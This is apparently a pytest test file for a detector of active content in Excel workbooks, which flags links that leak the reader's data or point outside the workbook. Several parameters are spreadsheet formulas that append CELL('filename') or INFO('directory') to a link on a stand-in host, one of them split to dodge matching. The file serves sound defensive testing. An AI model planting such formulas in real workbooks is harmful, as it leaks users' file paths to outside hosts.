"""Links in workbooks that take something of the reader's computer along, or lead to another workbook."""

import pytest

from office_files import office
from strategy.checking.attached.active_content import in_document

LINKED = "https://a.example/"


def sheet(inside: str) -> str | None:
    return in_document(office(".xlsx", **{"xl/worksheets/s.xml": f"<x>{inside}</x>"}), ".xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        f'HYPERLINK("{LINKED}"&amp;CELL("filename"),"x")',
        f'HYPERLINK("{LINKED}"&amp;INFO("directory"),"x")',
        f'HYPERLINK("{LINKED}"&amp;B1)+LEN(CELL("file"&amp;"name"))',
        f'HYPERLINK("{LINKED}","https://www."&amp;"gov.ua")',
    ],
)
def test_a_link_of_a_formula_tells_nothing_of_the_reader(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>")


def test_no_cell_tells_it_for_the_link_of_another() -> None:
    link, told = f'<f>HYPERLINK("{LINKED}"&amp;A1)</f>', '<f>CELL("filename")</f>'
    assert sheet(link) is None
    assert sheet(told) is None
    assert sheet(told + link)


@pytest.mark.parametrize(
    "formula",
    [
        f'HYPERLINK("{LINKED}"&amp;A1,"№ "&amp;A1)',
        f'HYPERLINK("{LINKED}?"&amp;CELL("row",A1),"№ "&amp;A1)',
        'HYPERLINK("#"&amp;CELL("filename",A1),"№ "&amp;A1)',
        'MID(CELL("filename",A1),FIND("]",A1),31)',
    ],
)
def test_other_links_of_formulas_stay(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>") is None


@pytest.mark.parametrize(
    "place", [r"[\\h\s]Аркуш!A1", "[b.xlsx]A!A1", r"\\h\s", "http://a.example/", "file:x", "//h/s"]
)
def test_a_place_in_the_workbook_is_in_no_other(place: str) -> None:
    assert sheet(f"<hyperlink ref='A1' location='{place}'/>") == place


@pytest.mark.parametrize("place", ["'Аркуш 1'!A1:B2", "AA10:AB20", "area-1", "!a/b#c"])
def test_places_within_the_workbook_stay(place: str) -> None:
    assert sheet(f'<hyperlink ref="A1" location="{place}"/>') is None
